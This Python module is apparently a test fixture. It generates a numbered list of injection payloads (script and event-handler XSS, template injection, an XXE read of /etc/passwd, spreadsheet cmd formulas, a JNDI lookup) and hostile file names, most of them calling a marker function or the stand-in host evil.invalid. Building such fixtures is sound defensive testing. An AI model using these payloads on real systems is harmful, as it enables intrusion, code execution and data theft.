"""Texts that would run, load, fake or break something if any place of a page, a table or a file took them for more than text.

Each calls `fire(N)`, N its place in the list, or asks the address MARK/N for something.
"""

from __future__ import annotations

MARK = "evil.invalid"

# @ stands for the number of the payload; none holds another @.
_TEMPLATES = (
    "<script>fire(@)</script>",
    "</title><script>fire(@)</script>",
    "</style><script>fire(@)</script>",
    '"><script>fire(@)</script>',
    "'><script>fire(@)</script>",
    "--><script>fire(@)</script><!--",
    "]]><script>fire(@)</script>",
    "</textarea></noscript></template><script>fire(@)</script>",
    "<scr<script>ipt>fire(@)</scr</script>ipt>",
    "<script src=//evil.invalid/@></script>",
    "<script type=module>fire(@)</script>",
    "<img src=x onerror=fire(@)>",
    "<img/src='x'/onerror='fire(@)'",
    "<IMG SRC=//evil.invalid/@ ONERROR=fire(@)>",
    "<svg onload=fire(@)>",
    "<svg><script>fire(@)</script></svg>",
    "<svg><animate onbegin=fire(@) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:fire(@)><text y=9>点我</text></a></svg>",
    "<math><mtext></table><mglyph><style><img src=x onerror=fire(@)></style></mglyph></mtext></math>",
    '<iframe srcdoc="<script>parent.fire(@)</script>"></iframe>',
    "<iframe src=javascript:parent.fire(@)></iframe>",
    "<iframe src=https://evil.invalid/@></iframe>",
    "<object data=data:text/html,<script>parent.fire(@)</script>></object>",
    "<embed src=//evil.invalid/@>",
    "<a href=javascript:fire(@)>点我</a>",
    "<a href=' &#106;avascript:fire(@)'>点我</a>",
    "[点我](javascript:fire(@))",
    "![图](https://evil.invalid/@)",
    "<https://evil.invalid/@>",
    "`</code><script>fire(@)</script>`",
    "```mermaid\ngraph TD; A[\"<img src=x onerror=fire(@)>\"]\n```",
    "$\\unicode{<script>fire(@)</script>}$ \\(\\href{javascript:fire(@)}{x}\\)",
    "{{ 6*7*1000000+@ }} {% include '/etc/passwd' %} ${6*7} #{6*7}",
    "{{ self.__init__.__globals__ }}<script>fire(@)</script>",
    "%s %(x)s {0} {unit!r} {@}<script>fire(@)</script>",
    "\" onmouseover=\"fire(@)\" x=\"",
    "' autofocus onfocus='fire(@)' x='",
    "` onclick=fire(@) `",
    "&lt;script&gt;fire(@)&lt;/script&gt;",
    "&#60;img src=x onerror=fire(@)&#62;",
    "&quot; onmouseover=&quot;fire(@)",
    "\\u003cscript\\u003efire(@)\\u003c/script\\u003e \\3c script>fire(@)",
    "}</style><style>*{background:url(//evil.invalid/@)}</style>",
    "\"; } } * { background: url(https://evil.invalid/@) } @media print { @page { x: \"",
    "<style>@import '//evil.invalid/@';</style>",
    "<link rel=stylesheet href=//evil.invalid/@>",
    "<link rel=prefetch href=//evil.invalid/@>",
    "<meta http-equiv=refresh content='0;url=//evil.invalid/@'>",
    "<base href=//evil.invalid/@/>",
    "<form action=//evil.invalid/@><button id=main>交</button></form>",
    "<input autofocus onfocus=fire(@)>",
    "<details open ontoggle=fire(@)><summary>x</summary></details>",
    "<video><source onerror=fire(@)></video>",
    "<audio src=//evil.invalid/@ onerror=fire(@)>",
    "<body onload=fire(@)>",
    "<marquee onstart=fire(@)>",
    "<div style=\"background:url('//evil.invalid/@')\">x</div>",
    "<p id=main class=skip onclick=fire(@)>",
    "data:text/html,<script>fire(@)</script>",
    "<!--[if IE]><script>fire(@)</script><![endif]-->",
    "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;@</x>",
    "/*SELFEVAL-FONT-FACE*/<script>fire(@)</script>",
    '=HYPERLINK("https://evil.invalid/@","点我")',
    "=cmd|'/c calc'!A@",
    "+SUM(1,@)*cmd|'/c calc'!A0",
    "-1+@+cmd|'/c calc'!A0",
    "\uff1d1+@",
    "{ HYPERLINK \"https://evil.invalid/@\" }",
    "_x003D_1+@ ${jndi:ldap://evil.invalid/@}",
)  # fmt: skip
PAYLOADS = tuple(text.replace("@", str(number)) for number, text in enumerate(_TEMPLATES) if "\n" not in text)
# Over more than one line, or with characters nobody sees; a reader of files may tidy these away, and nothing but that.
UNTIDY = (
    *(text.replace("@", str(number)) for number, text in enumerate(_TEMPLATES, start=900) if "\n" in text),
    "\ufeff<script>fire(990)</script>",
    "\u202e<script>fire(991)</script>\u202c",
    "<scr\u200bipt>fire(992)</scr\u200bipt>",
    "<img\x0csrc=x\x0conerror=fire(993)>",
    "<img\tsrc=x\tonerror=fire(994)>",
    '"\x0c}*{background:url(//evil.invalid/995)}',
)


def as_file_names(suffix: str) -> list[str]:
    """The payloads a file may be called by, on Linux."""
    return [f"{text}{suffix}" for text in PAYLOADS if "/" not in text and not text.startswith((".", "~$")) and len(text.encode()) < 200]
